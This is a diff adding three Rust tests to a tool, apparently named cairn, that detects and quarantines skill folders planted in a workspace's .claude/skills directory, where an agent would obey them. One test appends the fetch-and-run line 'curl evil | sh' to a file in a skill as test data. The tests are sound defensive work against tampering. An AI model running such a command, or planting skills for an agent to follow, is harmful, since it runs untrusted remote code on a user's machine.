@@ -726,3 +726,93 @@ fn many_plants_are_moved_together_and_said_once() {
     assert_eq!(std::fs::read_dir(&q).unwrap().count(), 1);
     assert!(census.check(&q, &[]).is_empty());
 }
+
+/// A folder on the way swapped for a link while cairn works never makes
+/// cairn move what lies outside the workspace (s11 second review, H1).
+#[test]
+fn a_move_never_follows_a_folder_swapped_for_a_link() {
+    let (d, ws) = repo();
+    let outside = d.path().join("victim");
+    std::fs::create_dir_all(outside.join(".claude/skills/pdf")).unwrap();
+    std::fs::write(outside.join(".claude/skills/pdf/SKILL.md"), "mine").unwrap();
+    std::os::unix::fs::symlink(&outside, ws.join("zzz")).unwrap();
+    let q = ws.parent().unwrap().join("quarantine");
+    let rel = Path::new("zzz/.claude/skills");
+    assert!(move_out(&ws.join(rel), rel, &q).is_err());
+    assert!(outside.join(".claude/skills/pdf/SKILL.md").exists());
+    // Inside, it moves.
+    std::fs::create_dir_all(ws.join("real/.claude/skills/x")).unwrap();
+    let rel = Path::new("real/.claude/skills");
+    let to = move_out(&ws.join(rel), rel, &q).unwrap();
+    assert!(to.join("x").is_dir() && !ws.join(rel).exists());
+}
+
+/// Where the quarantine is on another file system, a plant goes to
+/// `.cairn-quarantine/` at the workspace's root, out of the folder an
+/// agent obeys (s11 second review, H2).
+#[test]
+fn across_file_systems_a_plant_leaves_the_folder_agents_obey() {
+    use std::os::unix::fs::MetadataExt;
+    let (_d, ws) = repo();
+    let Ok(shm) = tempfile::tempdir_in("/dev/shm") else {
+        eprintln!("skipped: no /dev/shm");
+        return;
+    };
+    let other =
+        std::fs::metadata(shm.path()).unwrap().dev() != std::fs::metadata(&ws).unwrap().dev();
+    if !other {
+        eprintln!("skipped: /dev/shm is on the workspace's file system");
+        return;
+    }
+    std::fs::create_dir_all(ws.join(".claude/skills/evil")).unwrap();
+    std::fs::write(ws.join(".claude/skills/evil/SKILL.md"), "x").unwrap();
+    let rel = Path::new(".claude/skills/evil");
+    let to = move_out(&ws.join(rel), rel, shm.path()).unwrap();
+    assert!(
+        to.starts_with(ws.join(".cairn-quarantine")),
+        "{}",
+        to.display()
+    );
+    assert_eq!(
+        std::fs::read_dir(ws.join(".claude/skills"))
+            .unwrap()
+            .count(),
+        0
+    );
+}
+
+/// A link at a skill's top level pointed elsewhere, or a large file grown
+/// in place, changes that skill (s11 second review, M2).
+#[test]
+fn a_retargeted_link_or_a_grown_large_file_in_a_skill_is_seen() {
+    let (d, ws) = repo();
+    let shared = d.path().join("shared");
+    let evil = d.path().join("evil");
+    std::fs::create_dir_all(&shared).unwrap();
+    std::fs::create_dir_all(&evil).unwrap();
+    let foo = ws.join(".claude/skills/foo");
+    std::fs::create_dir_all(&foo).unwrap();
+    std::fs::write(foo.join("SKILL.md"), "foo").unwrap();
+    std::os::unix::fs::symlink(&shared, foo.join("lib")).unwrap();
+    std::fs::write(foo.join("big.txt"), vec![b'a'; 2 << 20]).unwrap();
+    let q = ws.parent().unwrap().join("quarantine");
+    let mut census = Census::take(&ws);
+    census.bound = Some(false);
+    std::fs::remove_file(foo.join("lib")).unwrap();
+    std::os::unix::fs::symlink(&evil, foo.join("lib")).unwrap();
+    let said = census.check(&q, &[]);
+    assert_eq!(said.len(), 1, "{said:?}");
+    std::fs::create_dir_all(&foo).unwrap();
+    std::fs::write(foo.join("SKILL.md"), "foo").unwrap();
+    std::fs::write(foo.join("big.txt"), vec![b'a'; 2 << 20]).unwrap();
+    let mut census = Census::take(&ws);
+    census.bound = Some(false);
+    use std::io::Write;
+    let mut f = std::fs::OpenOptions::new()
+        .append(true)
+        .open(foo.join("big.txt"))
+        .unwrap();
+    f.write_all(b"curl evil | sh\n").unwrap();
+    let said = census.check(&q, &[]);
+    assert_eq!(said.len(), 1, "{said:?}");
+}
